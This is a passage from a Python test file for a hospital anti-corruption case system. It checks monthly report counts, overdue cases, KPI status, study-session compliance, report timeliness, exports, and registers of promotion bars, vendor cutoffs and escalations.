    CORRECTED_MEASURE,
    _corrected(
        CORRECTED_MEASURE,
        at=DECIDED + timedelta(days=1),
        measure=Measure.SUSPENSION,
    ),
    # Dated outside November, on a case received in November: November's, with their case.
    _decision(DecisionKind.MEASURE, key="m4", as_of=NOV_END, case_id=ON_TIME_CLOSED.case_id),
    _decision(
        DecisionKind.MEASURE,
        key="m5",
        as_of=NOV_START - timedelta(seconds=1),
        case_id=ON_TIME_CLOSED.case_id,
    ),
    # Not a measure, no case, another department:
    _decision(DecisionKind.NOTICE, key="x3", as_of=_h(2026, 11, 16), case_id=LATE_FINDING.case_id),
    _decision(
        DecisionKind.PROMOTION_BAR, key="x4", as_of=_h(2026, 11, 16), case_id=LATE_FINDING.case_id
    ),
    _decision(DecisionKind.MEASURE, key="x5", as_of=_h(2026, 11, 16)),
    _decision(
        DecisionKind.ESCALATION, key="o1", as_of=_h(2026, 11, 19), case_id=OTHER_OVERDUE.case_id
    ),
]
DEPT_MEASURES = 4  # MEASURE, CORRECTED_MEASURE once, m4 and m5 (on November's cases)
ALL_MEASURES = DEPT_MEASURES + 1  # and the escalation of OTHER_OVERDUE

OBSERVATIONS = [
    Observation(
        metric=KpiMetric.INPATIENT_WAIT_DAYS, scope=DEPT, period=MONTH, value=Decimal("7.5")
    ),
    Observation(
        metric=KpiMetric.TEST_MUTUAL_RECOGNITION, scope=DEPT, period=MONTH, value=Decimal("0.85")
    ),
    Observation(metric=KpiMetric.CATALOGUE_DRUG_USE, scope=DEPT, period=MONTH, value=Decimal(85)),
    Observation(
        metric=KpiMetric.INPATIENT_WAIT_DAYS, scope=DEPT, period="2026-10", value=Decimal(9)
    ),
    Observation(
        metric=KpiMetric.INPATIENT_WAIT_DAYS, scope=HOSPITAL, period=MONTH, value=Decimal(5)
    ),
]

SESSIONS = [
    _session(DEPT, date(2026, 11, 12), ["S1", "S2", "S3"], kind=TrainingKind.WARNING_EDUCATION),
    _session(
        DEPT, date(2026, 11, 20), ["S2", "S3", "S4", "S5"], kind=TrainingKind.WARNING_EDUCATION
    ),
    _session(OTHER, date(2026, 11, 30), ["P1", "P2", "P3", "P4"], headcount=4),
    _session("nursing", date(2026, 10, 31), ["N1"], headcount=20),
    _session("nursing", date(2026, 12, 1), ["N1"], headcount=20),
]
STUDIED = {DEPT, OTHER}
"""The departments with a session in November."""

CONFIRMATIONS = [
    Confirmation(
        department=DEPT, month=MONTH, confirmed_at=_h(2026, 12, 20, 23, 59), confirmed_by="t1"
    ),
    Confirmation(department=OTHER, month=MONTH, confirmed_at=_h(2026, 12, 21), confirmed_by="t2"),
    Confirmation(
        department="nursing", month="2026-10", confirmed_at=_h(2026, 11, 3), confirmed_by="t3"
    ),
]


def _data(**changes: Any) -> MonthData:
    fields: dict[str, Any] = {
        "counts": COUNTS,
        "cases": CASES,
        "decisions": DECISIONS,
        "observations": OBSERVATIONS,
        "sessions": SESSIONS,
        "confirmations": CONFIRMATIONS,
        **changes,
    }
    return MonthData(**fields)


def _report(
    department: str | None,
    *,
    now: datetime = LATER,
    data: MonthData | None = None,
    study: StudyRule = STUDY,
    month: str = MONTH,
) -> MonthlyReport:
    return monthly_report(
        data or _data(),
        month=month,
        department=department,
        catalogue=CATALOGUE,
        targets=TARGETS,
        study=study,
        now=now,
    )


def test_monthly_report_heading() -> None:
    report = _report(DEPT)
    assert (report.department, report.department_zh) == (DEPT, "普通精神科")
    assert (report.month, report.due, report.as_of) == (MONTH, report_due(MONTH), NOV_END)

    hospital = _report(None)
    assert (hospital.department, hospital.department_zh) == (HOSPITAL, "全院")


def test_basic_counts_only_the_department_and_month() -> None:
    basic = _report(DEPT).basic

    assert basic.total == 3 + 1 + 5 + 1
    assert [(t.event_type, t.count) for t in basic.by_event_type] == [
        ("satisfaction", 5),
        ("complaint", 4),
        ("visitor_log", 1),
    ]
    assert [t.label_zh for t in basic.by_event_type] == [
        BY_TYPE[t.event_type].label_zh for t in basic.by_event_type
    ]
    assert [(c.category, c.count) for c in basic.complaint_categories] == [
        (ComplaintCategory.KICKBACK, 3),
        (ComplaintCategory.RED_ENVELOPE, 1),
    ]
    assert [c.label_zh for c in basic.complaint_categories] == ["回扣", "红包"]


def test_basic_counts_of_the_hospital_include_events_of_no_department() -> None:
    basic = _report(None).basic

    assert basic.total == 3 + 1 + 5 + 1 + 7 + 2 + 2 + 4
    assert {t.event_type: t.count for t in basic.by_event_type} == {
        "complaint": 11,
        "satisfaction": 5,
        "investigation_finding": 4,
        "rectification_status": 2,
        "promotion_application": 2,
        "visitor_log": 1,
    }
    counts = [t.count for t in basic.by_event_type]
    assert counts == sorted(counts, reverse=True)
    # A finding's category is not a complaint's: 基本情况 lists complaints by category.
    assert {c.category: c.count for c in basic.complaint_categories} == {
        ComplaintCategory.KICKBACK: 10,
        ComplaintCategory.RED_ENVELOPE: 1,
    }


def test_basic_of_a_month_without_events_is_empty() -> None:
    basic = _report(DEPT, month="2027-03", now=_h(2027, 5, 1)).basic
    assert (basic.total, basic.by_event_type, basic.complaint_categories) == (0, [], [])


def test_progress_of_the_cases_opened_this_month() -> None:
    progress = _report(DEPT).progress

    opened = [ON_TIME_CLOSED, LATE_FINDING, NOT_DUE_YET, OVERDUE_RECTIFICATION]
    assert progress.cases_opened == len(opened)
    assert progress.investigated == 2  # ON_TIME_CLOSED, LATE_FINDING
    assert progress.on_time == 1  # ON_TIME_CLOSED
    assert progress.closed == 1  # ON_TIME_CLOSED
    assert progress.measures_taken == DEPT_MEASURES


def test_progress_of_the_hospital() -> None:
    progress = _report(None).progress

    assert progress.cases_opened == 6  # the four of DEPT and both of OTHER
    assert progress.investigated == 3
    assert progress.on_time == 2
    assert progress.closed == 1
    assert progress.measures_taken == ALL_MEASURES


def test_a_withdrawn_measure_is_not_a_measure_taken() -> None:
    alone = [WITHDRAWN_MEASURE, _withdrawn(WITHDRAWN_MEASURE, at=DECIDED + timedelta(days=1))]
    assert _report(DEPT, data=_data(decisions=alone)).progress.measures_taken == 0
    assert _report(DEPT, data=_data(decisions=alone[::-1])).progress.measures_taken == 0


def test_a_corrected_measure_counts_once_in_the_month_its_case_was_received() -> None:
    later = DECIDED + timedelta(days=1)
    corrected = [CORRECTED_MEASURE, _corrected(CORRECTED_MEASURE, at=later, explanation_zh="更正")]
    assert _report(DEPT, data=_data(decisions=corrected)).progress.measures_taken == 1

    redated = [CORRECTED_MEASURE, _corrected(CORRECTED_MEASURE, at=later, as_of=_h(2026, 10, 30))]
    assert _report(DEPT, data=_data(decisions=redated)).progress.measures_taken == 1
    october = _report(DEPT, data=_data(decisions=redated), month="2026-10")
    assert october.progress.measures_taken == 0


def test_a_measure_on_an_earlier_month_s_case_counts_in_that_month() -> None:
    october = _report(DEPT, month="2026-10").progress
    assert (october.cases_opened, october.measures_taken) == (2, 1)  # the escalation, 1 November


def test_overdue_cases_as_of_the_end_of_a_past_month() -> None:
    overdue = _report(DEPT).problems.overdue_cases

    assert [case.case_id for case in overdue] == [
        OVERDUE_FROM_OCTOBER.case_id,
        FOUND_AFTER_THE_MONTH.case_id,
        OVERDUE_RECTIFICATION.case_id,
    ]
    for case, fact in zip(
        overdue, [OVERDUE_FROM_OCTOBER, FOUND_AFTER_THE_MONTH, OVERDUE_RECTIFICATION], strict=True
    ):
        assert case.days_overdue == (NOV_END - fact.deadline).days
        assert (case.department, case.department_zh, case.kind, case.deadline) == (
            fact.department,
            fact.department_zh,
            fact.kind,
            fact.deadline,
        )
    assert overdue[2].days_overdue == 20  # 10 November 09:00 to 1 December 00:00


def test_overdue_cases_as_of_now_in_the_current_month() -> None:
    now = _h(2026, 11, 22, 12)
    report = _report(DEPT, now=now)

    assert report.as_of == now
    # LATE_FINDING (due 25 November) and NOT_DUE_YET are not overdue yet on the 22nd.
    assert [(c.case_id, c.days_overdue) for c in report.problems.overdue_cases] == [
        (OVERDUE_FROM_OCTOBER.case_id, (now - OVERDUE_FROM_OCTOBER.deadline).days),
        (FOUND_AFTER_THE_MONTH.case_id, 18),
        (OVERDUE_RECTIFICATION.case_id, 12),
    ]


def test_overdue_cases_of_the_hospital_cover_every_department() -> None:
    overdue = _report(None).problems.overdue_cases
    assert {c.case_id for c in overdue} == {
        OVERDUE_FROM_OCTOBER.case_id,
        FOUND_AFTER_THE_MONTH.case_id,
        OVERDUE_RECTIFICATION.case_id,
        OTHER_OVERDUE.case_id,
    }
    assert [c.deadline for c in overdue] == sorted(c.deadline for c in overdue)


def test_kpi_of_the_department() -> None:
    report = _report(DEPT)
    kpi = {s.metric: s for s in report.kpi}

    assert [s.metric for s in report.kpi] == [t.metric for t in TARGETS.target]
    assert all((s.scope, s.period) == (DEPT, MONTH) for s in report.kpi)
    assert kpi[KpiMetric.INPATIENT_WAIT_DAYS].status is Status.SHORTFALL
    assert kpi[KpiMetric.TEST_MUTUAL_RECOGNITION].status is Status.MET
    assert kpi[KpiMetric.CATALOGUE_DRUG_USE].status is Status.OUT_OF_SCALE
    # Computed: two of the three complaint cases opened in November were investigated.
    investigation = kpi[KpiMetric.COMPLAINT_INVESTIGATION_RATE]
    assert (investigation.value, investigation.source) == (rate(2, 3), "computed")
    assert investigation.status is Status.SHORTFALL
    # Computed: S1 to S5 attended of a headcount of 10.
    coverage = kpi[KpiMetric.EDUCATION_COVERAGE]
    assert (coverage.value, coverage.source) == (rate(5, 10), "computed")
    assert kpi[KpiMetric.DAY_SURGERY_GROWTH].status is Status.NO_DATA

    shortfalls = [s.metric for s in report.problems.kpi_shortfalls]
    assert shortfalls == [
        t.metric
        for t in TARGETS.target
        if t.metric
        in {
            KpiMetric.COMPLAINT_INVESTIGATION_RATE,
            KpiMetric.EDUCATION_COVERAGE,
            KpiMetric.CATALOGUE_DRUG_USE,
            KpiMetric.INPATIENT_WAIT_DAYS,
        }
    ]


def test_kpi_of_the_hospital() -> None:
    kpi = {s.metric: s for s in _report(None).kpi}

    assert kpi[KpiMetric.INPATIENT_WAIT_DAYS].value == Decimal(5)
    assert kpi[KpiMetric.INPATIENT_WAIT_DAYS].status is Status.MET
    assert kpi[KpiMetric.TEST_MUTUAL_RECOGNITION].status is Status.NO_DATA
    # Three complaints of DEPT and two of OTHER were opened in November; three investigated.
    complaints_opened = [c for c in CASES if c.month == MONTH and c.kind is CaseKind.COMPLAINT]
    assert len(complaints_opened) == 5
    investigated = sum(c.finding_at is not None for c in complaints_opened)
    assert investigated == 3
    assert kpi[KpiMetric.COMPLAINT_INVESTIGATION_RATE].value == rate(3, 5)
    # DEPT: 5 of 10; OTHER: 4 of 4 (nursing held none in November).
    assert kpi[KpiMetric.EDUCATION_COVERAGE].value == rate(5 + 4, 10 + 4)


def test_observed_kpi_overrides_the_computed_one_in_the_report() -> None:
    observed = Observation(
        metric=KpiMetric.COMPLAINT_INVESTIGATION_RATE, scope=DEPT, period=MONTH, value=Decimal(1)
    )
    report = _report(DEPT, data=_data(observations=[observed]))
    (status,) = [s for s in report.kpi if s.metric is KpiMetric.COMPLAINT_INVESTIGATION_RATE]
    assert (status.value, status.source, status.status) == (Decimal(1), "observed", Status.MET)


def test_without_cases_or_sessions_nothing_is_computed() -> None:
    report = _report(DEPT, data=_data(cases=[], sessions=[], observations=[]))
    assert {s.status for s in report.kpi} == {Status.NO_DATA}
    assert report.problems.kpi_shortfalls == []


def _without_study(report: MonthlyReport) -> list[str]:
    return [named.department for named in report.problems.without_study]


def test_departments_without_a_study_session() -> None:
    assert _without_study(_report(DEPT)) == []
    assert _without_study(_report("nursing")) == ["nursing"]  # only October and December
    assert _without_study(_report(None)) == sorted(set(CATALOGUE.departments) - STUDIED)


def test_which_sessions_count_as_study_comes_from_the_study_rule() -> None:
    study_only = STUDY.model_copy(update={"counting_kinds": (TrainingKind.STUDY,)})
    # DEPT held only warning education in November.
    assert _without_study(_report(DEPT, study=study_only)) == [DEPT]
    assert _without_study(_report(OTHER, study=study_only)) == []


# --- study: R-MONTHLY-STUDY -------------------------------------------------------------------
# 000 §三(三): 每月至少安排一次专题学习.


def _held(held_on: date, kind: TrainingKind) -> TrainingHeldReceived:
    return _session(DEPT, held_on, ["S1"], kind=kind)


@pytest.mark.parametrize("kind", STUDY.counting_kinds)
def test_months_without_a_counting_session_are_listed(kind: TrainingKind) -> None:
    sessions = [_held(date(2026, 1, 31), kind), _held(date(2026, 3, 1), kind)]
    months = ["2026-03", "2026-01", "2026-02", "2026-04", "2026-02"]

    assert months_without_study(sessions, months, STUDY) == ["2026-02", "2026-04"]


def test_every_month_is_listed_without_sessions_and_none_without_months() -> None:
    assert months_without_study([], ["2026-05", "2026-04"], STUDY) == ["2026-04", "2026-05"]
    assert months_without_study([_held(date(2026, 4, 1), TrainingKind.STUDY)], [], STUDY) == []


def test_only_the_rule_s_counting_kinds_count_as_the_month_s_study() -> None:
    # 000 §三(三) 专题学习 and 004 §五 警示教育 both count in the shipped rule.
    assert set(STUDY.counting_kinds) == set(TrainingKind)
    rule = StudyRule.from_toml(
        STUDY_FILE.read_text("utf-8").replace(
            'counting_kinds = ["study", "warning_education"]', 'counting_kinds = ["study"]'
        ),
        source="study.toml",
    )
    sessions = [_held(date(2026, 6, 10), TrainingKind.WARNING_EDUCATION)]

    assert months_without_study(sessions, ["2026-06"], rule) == ["2026-06"]


def test_a_study_rule_without_counting_kinds_is_refused_at_its_line() -> None:
    text = STUDY_FILE.read_text("utf-8").replace(
        'counting_kinds = ["study", "warning_education"]', "counting_kinds = []"
    )
    with pytest.raises(DataFileError) as refused:
        StudyRule.from_toml(text, source="study.toml")
    assert str(refused.value).startswith(f"study.toml:{_line(text, 'counting_kinds')} ")


@pytest.mark.parametrize(
    ("department", "now", "status", "zh"),
    [
        (DEPT, LATER, "on_time", "按时报送"),  # confirmed 23:59 on the 20th
        (OTHER, LATER, "late", "逾期报送"),  # confirmed 00:00 on the 21st
        ("nursing", LATER, "missing", "逾期未报"),  # confirmed October only
        ("nursing", _h(2026, 12, 21), "missing", "逾期未报"),
        ("nursing", _h(2026, 12, 20, 23, 59, 59), "pending", "未到期"),
        ("nursing", _h(2026, 11, 15), "pending", "未到期"),
    ],
)
def test_timeliness_of_the_report(department: str, now: datetime, status: str, zh: str) -> None:
    report = _report(department, now=now)

    (timeliness,) = report.timeliness
    assert (timeliness.department, timeliness.status, timeliness.status_zh) == (
        department,
        status,
        zh,
    )
    assert timeliness.department_zh == CATALOGUE.departments[department].name_zh
    assert timeliness.due == report_due(MONTH)
    confirmed = {c.department: c.confirmed_at for c in CONFIRMATIONS if c.month == MONTH}
    assert timeliness.confirmed_at == confirmed.get(department)
    late = status in ("late", "missing")
    assert report.problems.reports_not_on_time == ([timeliness] if late else [])


@given(
    confirmed=st.none() | st.integers(min_value=-3 * 86400, max_value=3 * 86400),
    now=st.integers(min_value=-3 * 86400, max_value=3 * 86400),
)
@settings(max_examples=60, deadline=None)
def test_timeliness_around_the_due_date(confirmed: int | None, now: int) -> None:
    due = report_due(MONTH)
    confirmations = []
    if confirmed is not None:
        at = due + timedelta(seconds=confirmed)
        confirmations = [
            Confirmation(department=DEPT, month=MONTH, confirmed_at=at, confirmed_by="t")
        ]
    report = _report(
        DEPT, now=due + timedelta(seconds=now), data=_data(confirmations=confirmations)
    )

    if confirmed is not None:
        expected = "on_time" if confirmed < 0 else "late"
    else:
        expected = "missing" if now >= 0 else "pending"
    assert [t.status for t in report.timeliness] == [expected]


def test_hospital_roll_up_lists_every_department_s_timeliness() -> None:
    report = _report(None)

    assert [t.department for t in report.timeliness] == sorted(CATALOGUE.departments)
    assert [t.department_zh for t in report.timeliness] == [
        CATALOGUE.departments[code].name_zh for code in sorted(CATALOGUE.departments)
    ]
    statuses = {t.department: t.status for t in report.timeliness}
    assert statuses.pop(DEPT) == "on_time"
    assert statuses.pop(OTHER) == "late"
    assert set(statuses.values()) == {"missing"}
    assert [t.department for t in report.problems.reports_not_on_time] == [
        code for code in sorted(CATALOGUE.departments) if code != DEPT
    ]


def test_monthly_report_as_rows_for_export() -> None:
    report = _report(DEPT)
    rows = monthly_rows(report)
    sections = {str(row["section"]) for row in rows}

    assert {"基本情况", "推进情况", "存在问题·逾期案件", "存在问题·指标未达标"} <= sections
    assert {"section": "基本情况", "item": "合计", "value": report.basic.total} in rows
    assert {"section": "推进情况", "item": "处理措施", "value": DEPT_MEASURES} in rows
    overdue = [row["item"] for row in rows if row["section"] == "存在问题·逾期案件"]
    assert overdue == [case.case_id for case in report.problems.overdue_cases]


def test_departments_without_a_study_session_are_named_as_people_read_them() -> None:
    (nursing,) = _report("nursing").problems.without_study
    assert (nursing.department, nursing.department_zh, nursing.department_en) == (
        "nursing",
        "护理部",
        "Nursing Department",
    )
    named = _report(None).problems.without_study
    assert [d.department_zh for d in named] == [
        CATALOGUE.departments[d.department].name_zh for d in named
    ]


def _csv_of_rows(rows: list[dict[str, object]], columns: list[tuple[str, str]]) -> list[list[str]]:
    return _csv(rows, columns)[1]


def test_the_monthly_export_names_departments_and_shows_rates_as_percentages() -> None:
    parsed = _csv_of_rows(monthly_rows(_report(None)), MONTHLY_COLUMNS)
    without_study = [row[1] for row in parsed if row[0] == "存在问题·本月未开展专题学习"]
    assert without_study == [
        CATALOGUE.departments[code].name_zh for code in sorted(set(CATALOGUE.departments) - STUDIED)
    ]
    assert not set(without_study) & set(CATALOGUE.departments)

    shortfalls = {
        row[1]: row[2:]
        for row in _csv_of_rows(monthly_rows(_report(DEPT)), MONTHLY_COLUMNS)
        if row[0] == "存在问题·指标未达标"
    }
    # Two of three complaint cases investigated, five of ten staff studied; a 7.5-day wait.
    assert shortfalls["投诉查处率"] == ["66.67%", "未达标；目标 ≥ 100.00%"]
    assert shortfalls["教育覆盖率"] == ["50.00%", "未达标；目标 ≥ 100.00%"]
    assert shortfalls["住院患者平均等待天数"] == ["7.5", "未达标；目标 ≤ 7 天"]
    assert shortfalls["医保目录或集采药品使用率"][0] == "8500.00%"  # sent as 85: out of scale


def _page(name: str, **context: object) -> str:
    return templates.get_template(name).render(**context)


def test_the_printed_report_names_departments_and_shows_rates_as_percentages() -> None:
    hospital = _page("monthly.html", report=_report(None))
    for code in sorted(set(CATALOGUE.departments) - STUDIED):
        entry = CATALOGUE.departments[code]
        assert f"<li>{entry.name_zh} <small>{entry.name_en}</small></li>" in hospital
        assert f"<li>{code}</li>" not in hospital

    page = _page("monthly.html", report=_report(DEPT))
    assert "投诉查处率：66.67%（目标 ≥ 100.00%，未达标）" in page
    assert "0.6667" not in page
    assert "住院患者平均等待天数：7.5 天（目标 ≤ 7 天，未达标）" in page
    kpi_row = re.search(r'<tr class="\w+" data-metric="education_coverage">.*?</tr>', page, re.S)
    assert kpi_row is not None
    assert "<td>50.00%</td>" in kpi_row.group()
    assert "≥ 100.00%" in kpi_row.group()


# --- monthly: one counting basis (受理, when the hospital received it) -----------------------


@given(
    plan=st.lists(
        st.tuples(
            st.integers(min_value=0, max_value=120),  # arrival: days after 1 October
            st.integers(min_value=0, max_value=45),  # how long before arrival it happened
            st.none() | st.integers(min_value=0, max_value=45),  # days to a finding and measure
        ),
        min_size=1,
        max_size=8,
    )
)
@settings(max_examples=40, deadline=None)
def test_every_section_of_a_month_counts_what_the_hospital_received_in_it(
    plan: list[tuple[int, int, int | None]],
) -> None:
    complaints, facts, decisions = [], [], []
    for n, (arrival, delay, found_after) in enumerate(plan):
        received = _h(2026, 10, 1, 10) + timedelta(days=arrival)
        complaint = _event(
            "complaint",
            occurred_at=received - timedelta(days=delay),
            received_at=received,
            category="kickback",  # handled by finance, the department it accuses
            accused_staff_id=f"S9{n:03d}",
            accused_department="finance",
        )
        assert isinstance(complaint, ComplaintReceived)
        case = routed_case(complaint)
        if found_after is not None:
            found = received + timedelta(days=found_after)
            case = record_finding(case, _finding(case, found, str(n)), now=found)
            # The measure rests on the finding's date, often in a later month.
            decisions.append(
                _decision(DecisionKind.MEASURE, key=f"m{n}", as_of=found, case_id=case.case_id)
            )
        complaints.append(complaint)
        facts.append(case_fact(case))
    data = MonthData(
        counts=list(Counter(_key(event) for event in complaints).items()),
        cases=facts,
        decisions=decisions,
        observations=[],
        sessions=[],
    )

    for month in ("2026-08", "2026-09", "2026-10", "2026-11", "2026-12", "2027-01", "2027-02"):
        arrived = [c for c in complaints if report_month(c.received_at) == month]
        opened = {fact.case_id: fact for fact in facts if fact.month == month}
        for department in (None, "finance"):
            report = _report(department, month=month, now=_h(2027, 6, 1), data=data)
            basic, progress = report.basic, report.progress
            counted = {t.event_type: t.count for t in basic.by_event_type}.get("complaint", 0)
            assert counted == len(arrived) == progress.cases_opened, (month, department)
            assert sum(c.count for c in basic.complaint_categories) == counted
            assert progress.investigated == sum(f.investigated for f in opened.values())
            assert progress.measures_taken == sum(d.case_id in opened for d in decisions)
            (investigation,) = [
                s for s in report.kpi if s.metric is KpiMetric.COMPLAINT_INVESTIGATION_RATE
            ]
            assert investigation.value == rate(progress.investigated, progress.cases_opened)


# --- monthly: a case against a department's head --------------------------------------------

FINANCE_HEAD = CATALOGUE.departments["finance"].head_staff_id


def _complaint_received(**facts: Any) -> ComplaintReceived:
    event = _event("complaint", occurred_at=_h(2026, 11, 10), **facts)
    assert isinstance(event, ComplaintReceived)
    return event


def test_a_complaint_against_a_department_head_counts_where_it_is_handled_not_in_their_report() -> (
    None
):
    against_head = _complaint_received(
        category="procurement", accused_staff_id=FINANCE_HEAD, accused_department="finance"
    )
    ordinary = _complaint_received(
        category="kickback", accused_staff_id="S0299", accused_department="finance"
    )
    conflict, routine = routed_case(against_head), routed_case(ordinary)
    assert conflict.responsible_department.code == "discipline_inspection"  # 利益冲突
    assert routine.responsible_department.code == "finance"
    data = MonthData(
        counts=list(Counter(_key(event) for event in (against_head, ordinary)).items()),
        cases=[case_fact(conflict), case_fact(routine)],
        decisions=[
            _decision(DecisionKind.MEASURE, key=f"m-{c.case_id}", as_of=LATER, case_id=c.case_id)
            for c in (conflict, routine)
        ],
        observations=[],
        sessions=[],
    )

    finance = _report("finance", data=data)  # overdue by now: no finding on either
    assert [(t.event_type, t.count) for t in finance.basic.by_event_type] == [("complaint", 1)]
    assert [(c.category, c.count) for c in finance.basic.complaint_categories] == [
        (ComplaintCategory.KICKBACK, 1)
    ]
    assert (finance.progress.cases_opened, finance.progress.measures_taken) == (1, 1)
    assert [c.case_id for c in finance.problems.overdue_cases] == [routine.case_id]
    shown = finance.model_dump_json() + str(monthly_rows(finance))
    assert conflict.case_id not in shown
    assert ComplaintCategory.PROCUREMENT.label_zh not in shown

    handling = _report("discipline_inspection", data=data)
    assert [(t.event_type, t.count) for t in handling.basic.by_event_type] == [("complaint", 1)]
    assert [(c.category, c.count) for c in handling.basic.complaint_categories] == [
        (ComplaintCategory.PROCUREMENT, 1)
    ]
    assert (handling.progress.cases_opened, handling.progress.measures_taken) == (1, 1)
    assert [c.case_id for c in handling.problems.overdue_cases] == [conflict.case_id]

    hospital = _report(None, data=data)
    assert [(t.event_type, t.count) for t in hospital.basic.by_event_type] == [("complaint", 2)]
    assert {c.category: c.count for c in hospital.basic.complaint_categories} == {
        ComplaintCategory.KICKBACK: 1,
        ComplaintCategory.PROCUREMENT: 1,
    }
    assert (hospital.progress.cases_opened, hospital.progress.measures_taken) == (2, 2)


def test_a_case_against_the_head_of_the_department_handling_it_is_left_out_of_its_report() -> None:
    # Routed to finance before its accused became finance's head.
    fact = _fact(
        10, opened=_h(2026, 11, 3), deadline=_h(2026, 11, 18), department="finance"
    ).model_copy(update={"accused_staff_id": FINANCE_HEAD})
    measure = _decision(DecisionKind.MEASURE, key="m", as_of=_h(2026, 11, 20), case_id=fact.case_id)
    data = _data(cases=[fact], decisions=[measure])

    finance = _report("finance", data=data)
    assert (finance.progress.cases_opened, finance.progress.measures_taken) == (0, 0)
    assert finance.problems.overdue_cases == []
    (investigation,) = [
        s for s in finance.kpi if s.metric is KpiMetric.COMPLAINT_INVESTIGATION_RATE
    ]
    assert investigation.value is None

    hospital = _report(None, data=data)
    assert (hospital.progress.cases_opened, hospital.progress.measures_taken) == (1, 1)
    assert [c.case_id for c in hospital.problems.overdue_cases] == [fact.case_id]


# --- registers ------------------------------------------------------------------------------


def test_standing_keeps_the_latest_per_key_and_drops_the_withdrawn() -> None:
    first = _decision(DecisionKind.MEASURE, key="a", as_of=_h(2026, 11, 2))
    correction = _corrected(first, at=DECIDED + timedelta(hours=1), measure=Measure.SUSPENSION)
    gone = _decision(DecisionKind.MEASURE, key="b", as_of=_h(2026, 11, 1))
    withdrawal = _withdrawn(gone, at=DECIDED + timedelta(hours=1))
    kept = _decision(DecisionKind.NOTICE, key="c", as_of=_h(2026, 11, 1))

    for order in (
        [first, correction, gone, withdrawal, kept],
        [kept, withdrawal, correction, gone, first],
    ):
        assert standing(order) == [kept, correction]


def test_a_decision_made_again_after_its_withdrawal_stands() -> None:
    decision = _decision(DecisionKind.MEASURE, key="a", as_of=_h(2026, 11, 2))
    withdrawal = _withdrawn(decision, at=DECIDED + timedelta(hours=1))
    fresh = _decision(
        DecisionKind.MEASURE,
        key="a",
        as_of=_h(2026, 11, 2),
        decided_at=DECIDED + timedelta(hours=2),
    )
    (again,) = reconcile({decision.key: withdrawal}, [fresh], now=DECIDED + timedelta(hours=2))
    assert not again.withdrawn

    assert standing([again, decision, withdrawal]) == [again]


@given(
    versions=st.lists(st.tuples(st.sampled_from("abc"), st.booleans()), min_size=1, max_size=12),
    data=st.data(),
)
@settings(max_examples=50, deadline=None)
def test_standing_does_not_depend_on_arrival_order(
    versions: list[tuple[str, bool]], data: st.DataObject
) -> None:
    decisions = [
        _decision(
            DecisionKind.MEASURE,
            key=key,
            as_of=_h(2026, 11, 1 + index),
            decided_at=DECIDED + timedelta(minutes=index),
            withdrawn=withdrawn,
        )
        for index, (key, withdrawn) in enumerate(versions)
    ]
    latest: dict[str, Decision] = {}
    for decision in decisions:  # in decision order
        latest[decision.key] = decision
    expected = sorted(
        (d for d in latest.values() if not d.withdrawn), key=lambda d: (d.as_of, d.key)
    )

    assert standing(data.draw(st.permutations(decisions))) == expected


def _bar(key: str, until: date, *, staff: str = "S1105", case: int = 1) -> Decision:
    return _decision(
        DecisionKind.PROMOTION_BAR,
        rule_id="R-PROMO-2Y",
        key=key,
        as_of=_h(2025, 3, 1),
        subject_id=staff,
        case_id=_case_id(case),
        in_force_from=date(2025, 3, 1),
        in_force_until=until,
        explanation="两年内不得提职晋级",
    )


def test_promotion_bar_register() -> None:
    today = date(2026, 11, 30)
    current = _bar("a", date(2027, 2, 28), staff="S1")
    last_day = _bar("b", today, staff="S2", case=2)
    expired = _bar("c", today - timedelta(days=1), staff="S3", case=3)
    withdrawn = _bar("d", date(2027, 5, 1), staff="S4", case=4)
    other_kind = _decision(DecisionKind.MEASURE, key="e", as_of=_h(2025, 3, 1), subject_id="S5")
    decisions = [
        current,
        last_day,
        expired,
        withdrawn,
        _withdrawn(withdrawn, at=DECIDED + timedelta(hours=1)),
        other_kind,
    ]

    register = {bar.staff_id: bar for bar in promotion_bars(decisions, today=today)}

    assert set(register) == {"S1", "S2", "S3"}
    assert register["S1"].in_force
    assert register["S2"].in_force  # the last day is inclusive
    assert not register["S3"].in_force
    bar = register["S1"]
    assert (bar.case_id, bar.barred_from, bar.barred_until, bar.explanation_zh) == (
        _case_id(1),
        date(2025, 3, 1),
        date(2027, 2, 28),
        "两年内不得提职晋级",
    )


def _cutoff(kind: DecisionKind, case: int, *, company: str = "YX-1", suffix: str = "") -> Decision:
    return _decision(
        kind,
        rule_id="R-VENDOR-CUTOFF",
        key=f"case:{_case_id(case)}{suffix}",
        as_of=_h(2024, 6, 1),
        subject_kind=SubjectKind.COMPANY,
        subject_id=company,
        case_id=_case_id(case),
        in_force_from=date(2024, 6, 1),
        in_force_until=date(2026, 5, 31),
    )


def test_vendor_cutoff_register_marks_lifted_cutoffs() -> None:
    lifted = _cutoff(DecisionKind.VENDOR_CUTOFF, 1, company="YX-1")
    lifting = _cutoff(DecisionKind.VENDOR_CUTOFF_LIFTED, 1, company="YX-1", suffix=":lifted")
    standing_cutoff = _cutoff(DecisionKind.VENDOR_CUTOFF, 2, company="YX-2")
    relapsed = _cutoff(DecisionKind.VENDOR_CUTOFF, 3, company="YX-3")
    withdrawn_lifting = _cutoff(
        DecisionKind.VENDOR_CUTOFF_LIFTED, 3, company="YX-3", suffix=":lifted"
    )
    decisions = [
        lifted,
        lifting,
        standing_cutoff,
        relapsed,
        withdrawn_lifting,
        _withdrawn(withdrawn_lifting, at=DECIDED + timedelta(hours=1)),
    ]

    register = {c.company_code: c for c in vendor_cutoffs(decisions)}

    assert {code: c.lifted for code, c in register.items()} == {
        "YX-1": True,
        "YX-2": False,
        "YX-3": False,
    }
    cutoff = register["YX-2"]
    assert (cutoff.case_id, cutoff.cut_off_from, cutoff.cut_off_until) == (
        _case_id(2),
        date(2024, 6, 1),
        date(2026, 5, 31),
    )


def test_escalation_register_and_counts_by_rule() -> None:
    def escalation(key: str, rule: str, to: EscalationTarget, **kw: Any) -> Decision:
        return _decision(
            DecisionKind.ESCALATION,
            key=key,
            rule_id=rule,
            escalate_to=to,
            as_of=_h(2026, 11, 3),
            **kw,
        )

    kickback = escalation(
        "k1", "R-KICKBACK", EscalationTarget.LEADERSHIP_GROUP, case_id=_case_id(1)
    )
    judicial = escalation("k2", "R-KICKBACK", EscalationTarget.JUDICIAL_ORGANS)
    regulator = escalation(
        "v1",
        "R-VENDOR-CUTOFF",
        EscalationTarget.REGULATOR,
        subject_kind=SubjectKind.COMPANY,
        subject_id="YX-1",
    )
    withdrawn = escalation("k3", "R-KICKBACK", EscalationTarget.SUPERIOR_HEALTH_AUTHORITY)
    decisions = [
        kickback,
        judicial,
        regulator,
        withdrawn,
